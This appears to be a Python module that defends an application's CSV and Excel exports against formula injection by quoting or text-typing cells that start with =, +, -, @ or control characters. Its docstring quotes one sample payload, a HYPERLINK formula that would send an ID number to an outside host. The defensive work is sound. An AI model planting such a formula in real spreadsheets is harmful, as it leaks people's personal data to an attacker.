"""Cells of the files Linli writes (CSV and Excel): what a person typed is shown, never run.

A spreadsheet takes a cell that starts with = + - @ (or a tab or carriage return) for a formula: a name
=HYPERLINK("http://x/?"&F2,"a") would send the ID number in F2 to whoever wrote it. Every writer passes
its cells through here:

- CSV (`csv_writer`, `safe_cell`): such text gets a leading apostrophe ('=HYPERLINK…), which Excel and
  WPS show as text (OWASP's advice for CSV).
- Excel (`xlsx_row`, `xlsx_cell`, `put`): such text is written as a text cell (type "s", never a
  formula) marked "quote prefix", the way Excel itself stores text typed after an apostrophe: the cell
  shows exactly what was stored and stays text when someone edits it. The text itself is unchanged, so
  an error report corrected and imported again carries no apostrophes.

Numbers, dates and booleans stay what they are (a negative correction of hours stays a number). Text
also loses the invisible characters desktop.core.plain_text removes (openpyxl refuses control
characters outright: an old record holding one must not stop an export).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from itertools import chain
from typing import IO, Any

from desktop.core.plain_text import INVISIBLE_OR_BREAK, clean_text

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")    # a CR in notes is stored as a line feed
# A row's texts, each after a rare but printable mark (⸻): one search finds a cell that starts like a
# formula, and one look whether all of it is printable tells that no character clean_text changes is
# there — every such character is unprintable (a test holds it over all code points); only text that
# is not is searched for them. A mark in a cell's own text only sends the row the slow way.
_MARK = "\u2e3b"
_INVISIBLE = re.compile(INVISIBLE_OR_BREAK)
_LEAD = re.compile(f"{_MARK}[=+\\-@]")


def _needs_a_look(joined: str) -> bool:
    return bool(_LEAD.search(joined)) or (not joined.isprintable() and bool(_INVISIBLE.search(joined)))


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_LEADS)


def safe_cell(value: Any) -> Any:
    """A CSV cell: text cleaned and, when a spreadsheet would run it, prefixed with an apostrophe."""
    if isinstance(value, str):
        value = clean_text(value, multiline=True)
        if looks_like_formula(value):
            return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """`safe_cell` of every cell; a row with nothing to change (most) is looked at once as a whole."""
    cells = list(row)
    if _needs_a_look(_MARK + _MARK.join([v for v in cells if isinstance(v, str)])):
        return [safe_cell(v) for v in cells]
    return cells


def safe_text_rows(rows: list[tuple[str, ...]]) -> list[Any]:
    """`safe_row` of every row of a batch whose cells are all text (the audit export's): the batch is
    looked at as a whole, and row by row only when that finds something (most batches: nothing)."""
    if _needs_a_look(_MARK + _MARK.join(chain.from_iterable(rows))):
        return [safe_row(r) for r in rows]
    return rows


class _SafeWriter:
    def __init__(self, fh: IO[str]) -> None:
        self._w = csv.writer(fh)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._w.writerows(map(safe_row, rows))

    def write_text_rows(self, rows: list[tuple[str, ...]]) -> None:
        """`writerows` for a batch whose every cell is text: checked as one (`safe_text_rows`)."""
        self._w.writerows(safe_text_rows(rows))


def csv_writer(fh: IO[str]) -> _SafeWriter:
    """csv.writer whose every cell goes through safe_cell."""
    return _SafeWriter(fh)


def xlsx_cell(ws: Any, value: Any) -> Any:
    """An openpyxl cell for `ws` (ordinary or write-only) holding `value` as data: text is never a formula.
    Style it (font, number_format) and hand it to ws.append like any value."""
    from openpyxl.cell.cell import Cell  # deferred: loads openpyxl

    if isinstance(value, str):
        value = clean_text(value, multiline=True)
        if looks_like_formula(value):
            cell = Cell(ws, row=1, column=1)      # placed by ws.append
            cell._value = value
            _as_text(cell)
            return cell
    return Cell(ws, row=1, column=1, value=value)


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ws.append: cells already made are kept (with their styles), text is made safe."""
    from openpyxl.cell.cell import Cell  # deferred: loads openpyxl

    out: list[Any] = []
    for v in values:
        if isinstance(v, Cell):
            if v.data_type == "f":          # made by the caller from text starting with "="
                _as_text(v)
            out.append(v)
        elif isinstance(v, str):
            text = clean_text(v, multiline=True)
            out.append(xlsx_cell(ws, text) if looks_like_formula(text) else text)
        else:
            out.append(v)
    return out


def _as_text(cell: Any) -> None:
    cell.data_type = "s"
    cell.quotePrefix = True


def put(ws: Any, row: int, column: int, value: Any) -> Any:
    """ws.cell(row, column, value) for an ordinary worksheet, with the value made safe; returns the cell."""
    cell = ws.cell(row=row, column=column)
    if isinstance(value, str):
        value = clean_text(value, multiline=True)
        if looks_like_formula(value):
            cell._value = value
            _as_text(cell)
            return cell
    cell.value = value
    return cell
